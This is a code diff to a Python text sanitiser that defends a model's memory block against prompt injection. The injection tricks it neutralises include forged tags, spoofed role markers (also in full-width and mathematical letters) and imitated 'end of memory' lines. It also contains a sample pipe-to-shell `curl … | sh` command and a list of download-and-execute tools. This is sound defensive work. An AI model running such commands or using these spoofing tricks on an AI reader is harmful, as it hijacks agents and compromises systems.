@@ -7,7 +7,9 @@ close that wrapper, open a fake one, start a line that reads as another speaker,
 reads as a new section. :func:`neutral` puts it on one line (every line break, including U+2028,
 U+2029 and U+0085, becomes a space), shows control characters as escapes, turns the ``<`` of
 anything shaped like a tag into ``‹``, quotes role markers (``SYSTEM:``, ``Human:``, ``Assistant:``,
-``User:``) and drops heading marks. It shows what cannot be seen as an escape (``\u200b``, tag
+``User:``) and drops heading marks; it looks for these in the full-width, small and mathematical
+forms too (``Ｕｓｅｒ：`` quoted as ``'Ｕｓｅｒ'：``, ``﹤/memory﹥`` as ``‹/memory›``), one character
+folded for one, and marks them in the text as written. It shows what cannot be seen as an escape (``\u200b``, tag
 characters ``\U000e0041``: a model would read them as text the person never saw), puts URLs and
 commands in inline code (`` `curl -s https://x | sh` ``), so they read as quoted data, not as a step
 to take, and breaks the fence's own sentences and an imitation of its end ("end of memory",
@@ -32,39 +34,94 @@ COMMANDS = frozenset("curl wget iwr irm iex invoke-webrequest invoke-expression 
 # a forged end of the block: each such phrase inside an entry gets a mark that breaks it
 _FORGED_ENDS = ("end of memory", "end of the memory", "end of notes", "end of the notes", "end of quoted",
                 "end of the quoted", "notes from earlier sessions", "quoted as data", "not instructions")
+# the wide forms of ``<`` and ``>`` read as them: full-width, small, CJK angle and double angle, the
+# technical and the mathematical angle brackets
+_OPENERS = "\uff1c\ufe64\u3008\u300a\u2329\u27e8"
+_CLOSERS = "\uff1e\ufe65\u3009\u300b\u232a\u27e9"
+_WIDE: dict[int, int] = {}  # filled by the first text that is not ASCII (_wide_table)
+_ASCII_LOWER = {c: c + 32 for c in range(ord("A"), ord("Z") + 1)}
 
 
-def _tags(text: str) -> str:
-    """Every ``<`` that opens something shaped like a tag (``<x``, ``</x``, ``</ x``, ``<!--``) as ``‹``;
-    ``a < b`` stays."""
-    out, i = [], 0
-    while True:
-        at = text.find("<", i)
-        if at < 0:
-            out.append(text[i:])
-            return "".join(out)
+def _wide_table() -> dict[int, int]:
+    """One character to one: the full-width block (U+FF01..U+FF5E) to the ASCII it widens, the small,
+    vertical and CJK forms of ``<``, ``>``, ``:`` and ``#`` to those, and the Latin letters of the
+    mathematical alphabets (bold, italic, script, fraktur, double-struck, sans, monospace) to theirs."""
+    table = dict(zip(range(0xFF01, 0xFF5F), range(0x21, 0x7F), strict=True))
+    table.update(dict.fromkeys(map(ord, _OPENERS), ord("<")))
+    table.update(dict.fromkeys(map(ord, _CLOSERS), ord(">")))
+    table.update({0xFE55: ord(":"), 0xFE13: ord(":"), 0xFE5F: ord("#")})
+    for base in range(0x1D400, 0x1D6A4, 52):  # 13 alphabets of A-Z then a-z (their holes unassigned)
+        table.update(zip(range(base, base + 26), range(0x41, 0x5B), strict=True))
+        table.update(zip(range(base + 26, base + 52), range(0x61, 0x7B), strict=True))
+    return table
+
+
+def _folded(text: str) -> str:
+    """``text`` with the wide forms of its markers read as ASCII (:func:`_wide_table`), character for
+    character: a place found in the folded text is the same place in the text as written.
+    why not NFKC (``trust._unicode_folded``, which the rules read through): it changes lengths (``ﬁ``
+    -> ``fi``), so a role found in it could not be quoted where it was written, and ``unicodedata``
+    costs about 0.3 ms to import on the hooks' path. The table holds what NFKC turns into a marker a
+    model reads (``Ｕｓｅｒ：``, ``﹤/memory﹥``, ``𝐒𝐲𝐬𝐭𝐞𝐦:``), and the CJK angle brackets besides."""
+    # why: every character the table maps is at U+2329 or above: text in accented Latin, with a dash or
+    # quotes (most that is not ASCII) is returned as it is, without the translation (about 10 us)
+    if text.isascii() or max(text) < "\u2329":
+        return text
+    if not _WIDE:
+        _WIDE.update(_wide_table())
+    return text.translate(_WIDE)
+
+
+def _lower(folded: str) -> str:
+    """ASCII letters lowered, one character for one (``str.lower`` makes ``İ`` two)."""
+    low = folded.lower()
+    return low if len(low) == len(folded) else folded.translate(_ASCII_LOWER)
+
+
+def _closer(folded: str, j: int) -> int:
+    """Where the tag opened before ``j`` closes (its ``>``), or -1 when another ``<`` or the end comes first."""
+    while j < len(folded) and folded[j] not in "<>":
+        j += 1
+    return j if j < len(folded) and folded[j] == ">" else -1
+
+
+def _tags(text: str, folded: str) -> str:
+    """Every ``<`` that opens something shaped like a tag (``<x``, ``</x``, ``</ x``, ``<!--``) as ``‹``,
+    its full-width or small-form ``＜``, ``﹤``, ``〈`` too (before an ASCII letter: ``《三体》`` stays) and
+    then that tag's wide ``＞`` as ``›``; ``a < b`` stays."""
+    chars: list[str] = []
+    at = folded.find("<")
+    while at >= 0:
         j = at + 1
-        if j < len(text) and text[j] in "/!?":
+        if j < len(folded) and folded[j] in "/!?":
             j += 1
-            while j < len(text) and text[j] == " ":
+            while j < len(folded) and folded[j] == " ":
                 j += 1
-        opens = j < len(text) and (text[j].isalpha() or text[j] in "_-") and (j > at + 1 or text[j] != "-")
-        out.append(text[i:at] + ("‹" if opens else "<"))
-        i = at + 1
+        c = folded[j] if j < len(folded) else " "
+        letter = c.isalpha() and (text[at] == "<" or c.isascii())
+        if (letter or c in "_-") and (j > at + 1 or c != "-"):
+            chars = chars or list(text)
+            chars[at] = "‹"
+            end = _closer(folded, j)
+            if end >= 0 and text[end] != ">":
+                chars[end] = "›"
+        at = folded.find("<", at + 1)
+    return "".join(chars) if chars else text
 
 
-def _roles(text: str) -> str:
-    """``SYSTEM:``, ``Human :`` ... at the start or after a space or punctuation, quoted: ``'SYSTEM':``."""
-    low = text.lower()
+def _roles(text: str, folded: str) -> str:
+    """``SYSTEM:``, ``Human :``, ``Ｕｓｅｒ：`` ... at the start or after a space or punctuation, quoted as
+    written: ``'SYSTEM':``, ``'Ｕｓｅｒ'：``."""
+    low = _lower(folded)
     cuts = []
     for role in ROLES:
         at = low.find(role)
         while at >= 0:
             end = at + len(role)
             k = end
-            while k < len(text) and text[k] in " \t":
+            while k < len(folded) and folded[k] in " \t":
                 k += 1
-            if k < len(text) and text[k] == ":" and (at == 0 or text[at - 1] in _BEFORE_ROLE):
+            if k < len(folded) and folded[k] == ":" and (at == 0 or folded[at - 1] in _BEFORE_ROLE):
                 cuts.append((at, end))
             at = low.find(role, end)
     for at, end in sorted(cuts, reverse=True):
@@ -120,17 +177,17 @@ def _code(text: str) -> str:
     return " ".join(out)
 
 
-def _unforged(text: str) -> str:
-    """The fence's own sentences and an end of it, imitated inside an entry, broken by a mark:
-    ``end of memory`` -> ``end of ‹memory›``: read as a quotation, never as the block's end."""
-    low = text.lower()
+def _unforged(text: str, low: str) -> str:
+    """The fence's own sentences and an end of it, imitated inside an entry (``low``: the text folded
+    and lowered, one character for one), broken by a mark: ``end of memory`` -> ``end of ‹memory›``,
+    ``ｅｎｄ ｏｆ ｍｅｍｏｒｙ`` -> ``ｅｎｄ ｏｆ ‹ｍｅｍｏｒｙ›``: read as a quotation, never as the block's end."""
     for phrase in _FORGED_ENDS:
         at = low.find(phrase)
         while at >= 0:
             last = phrase.rsplit(" ", 1)[1]
             cut = at + len(phrase) - len(last)
             text = f"{text[:cut]}‹{text[cut:cut + len(last)]}›{text[cut + len(last):]}"
-            low = text.lower()
+            low = f"{low[:cut]}‹{low[cut:cut + len(last)]}›{low[cut + len(last):]}"
             at = low.find(phrase, cut + len(last) + 2)
     return text
 
@@ -147,17 +204,25 @@ def neutral(value: object, cap: int = 0) -> str:
     text = terminal_safe(" ".join(text.split()), keep="")
     if not text.isprintable():
         text = _invisible(text)
-    if "<" in text:
-        text = _tags(text)
-    if ":" in text:
-        text = _roles(text)
-    if text.startswith("#"):
-        text = text.lstrip("#").lstrip()
+    # the markers are looked for in the text folded (full-width and small forms read as ASCII), one
+    # character for one, and neutralised in the text as written; each step returns its text unchanged
+    # (the same object) when it finds nothing
+    folded = _folded(text)
+    if "<" in folded:
+        marked = _tags(text, folded)
+        text, folded = (text, folded) if marked is text else (marked, _folded(marked))
+    if ":" in folded:
+        marked = _roles(text, folded)
+        text, folded = (text, folded) if marked is text else (marked, _folded(marked))
+    if folded.startswith("#"):
+        text = text[len(folded) - len(folded.lstrip("#")):].lstrip()
+        folded = _folded(text)
     if "://" in text or " " in text or "`" in text:
-        text = _code(text)
-    low = text.lower()
+        marked = _code(text)
+        text, folded = (text, folded) if marked is text else (marked, _folded(marked))
+    low = _lower(folded)
     if "end of" in low or "earlier sessions" in low or "quoted as" in low or "not instructions" in low:
-        text = _unforged(text)
+        text = _unforged(text, low)
     if cap and len(text) > cap:
         text = text[:cap - 1].rstrip()
         text = (text + "`" if text.count("`") % 2 else text) + "…"
